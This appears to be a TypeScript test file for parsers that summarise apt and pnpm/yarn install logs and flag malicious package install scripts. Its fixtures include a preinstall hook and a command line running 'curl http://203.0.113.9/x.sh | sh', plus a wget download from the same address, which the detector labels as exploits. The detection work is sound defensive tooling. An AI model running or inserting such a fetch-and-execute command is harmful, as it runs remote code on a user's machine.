import assert from 'node:assert/strict'
import { test } from 'node:test'
import { firstTime, shortly } from '../../../test/logs.ts'
import { aptTerminal, nodeInstallers } from './package-terminals.ts'

test("apt: what was set up, and what maintainers' scripts printed", () => {
  const lines = [
    'Log started: 2026-11-22  00:48:13',
    'Setting up tor (0.4.8.10-1) ...',
    'Processing triggers for man-db (2.11.2-2) ...',
    '--2026-11-22 00:48:20--  http://203.0.113.9/x.sh',
    'Removing rkhunter (1.4.6-11) ...',
    'Log ended: 2026-11-22  00:49:00',
  ]
  assert.deepEqual(shortly(aptTerminal, lines), [
    'package success install tor 0.4.8.10-1',
    'download wget',
    'package success remove rkhunter 1.4.6-11',
  ])
  assert.equal(firstTime(aptTerminal, lines), '2026-11-22T00:48:13.000Z local')
  assert.ok(aptTerminal.recognise(`\n${lines.join('\n')}\n`, 'x') > 0.9)
})

test('pnpm and yarn: scripts that ran, and which of them nobody writes for an honest reason', () => {
  assert.deepEqual(
    shortly(nodeInstallers, [
      '12 debug pnpm:lifecycle {"depPath":"/esbuild@0.21.5","stage":"postinstall","script":"node install.js","wd":"/a"}',
      '13 debug pnpm:lifecycle {"depPath":"/ua-parser@0.7.29","stage":"preinstall","script":"curl http://203.0.113.9/x.sh | sh","wd":"/a"}',
      '14 debug pnpm:root {"added":{"name":"left-pad","version":"1.3.0"}}',
      '  /usr/bin/node /usr/share/yarn/bin/yarn.js add evil',
      'Command: curl http://203.0.113.9/x.sh | sh',
      'Command: node install.js',
    ]),
    [
      'package postinstall esbuild@0.21.5 node install.js',
      'exploit npm-install-script preinstall ua-parser@0.7.29 curl http://203.0.113.9/x.sh | sh',
      'package install left-pad@1.3.0',
      'package failure yarn add evil',
      'exploit npm-install-script curl http://203.0.113.9/x.sh | sh',
    ],
  )
})
